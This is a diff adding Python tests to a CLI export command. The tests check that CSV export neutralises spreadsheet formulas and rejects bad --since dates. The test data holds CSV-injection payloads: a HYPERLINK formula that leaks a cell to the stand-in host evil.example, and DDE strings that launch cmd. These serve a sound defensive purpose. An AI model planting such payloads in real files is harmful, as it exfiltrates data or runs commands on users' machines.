@@ -463,6 +463,70 @@ async def test_export_pages_through_every_outcome_in_order(app, team):
     assert total == 5
 
 
+FORMULAS = {
+    "project_title": '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+    "client_name": "+cmd|' /C calc'!A0",
+    "title": "-2+3",
+    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "recommended_approach": "\t=1+1",
+}
+
+
+async def test_csv_export_neutralises_spreadsheet_formulas_in_text_cells(
+    cli_env, app, team, tmp_path
+):
+    session_id = (await make_outcomes(app, team, 1))[0]
+    async with app.state.sessionmaker() as db, db.begin():
+        mm = await db.get(MastermindSession, session_id)
+        mm.title, mm.summary = FORMULAS["title"], FORMULAS["summary"]
+        mm.recommended_approach = FORMULAS["recommended_approach"]
+        project = await db.get(Project, mm.project_id)
+        project.title = FORMULAS["project_title"]
+        client = await db.get(Client, project.client_id)
+        client.name = FORMULAS["client_name"]
+        idea = await db.scalar(select(Contribution).where(Contribution.body == "Offer a pilot"))
+        idea.body = "=1+1"
+    out = tmp_path / "outcomes.csv"
+    result = await invoke(
+        "export", "outcomes", "--format", "csv", "--output", str(out),
+        "--organization", "Importers Inc",
+    )  # fmt: skip
+    assert result.exit_code == 0, result.output
+    [row] = list(csv.DictReader(io.StringIO(out.read_text())))
+    for column, text in FORMULAS.items():
+        assert row[column] == "'" + text, column
+    # Cells that hold JSON start with [ and keep their data exactly.
+    assert json.loads(row["adopted_ideas"]) == ["=1+1"]
+    # Nothing else changed: numbers, times, ids.
+    assert row["attended_minutes"] == "50"
+    assert row["scheduled_at"] == "2026-03-02T09:00:00+00:00"
+    # JSON lines are data for programs, not spreadsheets: the text as it is.
+    lines = await invoke("export", "outcomes", "--organization", "Importers Inc")
+    record = json.loads(lines.stdout)
+    assert {column: record[column] for column in FORMULAS} == FORMULAS
+
+
+async def test_export_since_outside_the_calendar_in_utc_is_a_usage_error(cli_env, app, team):
+    await make_outcomes(app, team, 1)
+    for since in ("9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00", "yesterday"):
+        result = await invoke(
+            "export", "outcomes", "--since", since, "--organization", "Importers Inc"
+        )
+        assert result.exit_code == 2, (since, result.output)
+        assert "RFC 3339" in result.output and "Traceback" not in result.output
+
+
+def test_csv_cells_that_are_numbers_stay_numbers():
+    record = dict.fromkeys(exports.OUTCOME_COLUMNS, "")
+    record.update(decisions=[], attendance=[], adopted_ideas=[], attended_minutes=-5)
+    record.update(title="-5", summary="\rcmd", purpose="approach")
+    [row] = list(csv.DictReader(io.StringIO(exports.csv_header() + exports.csv_line(record))))
+    assert row["attended_minutes"] == "-5"  # a numeric cell: data
+    assert row["title"] == "'-5"  # text that a spreadsheet would evaluate: quoted
+    assert row["summary"] == "'\rcmd"
+    assert row["purpose"] == "approach"
+
+
 # --- seed-demo --scale ---------------------------------------------------------------------
 
 
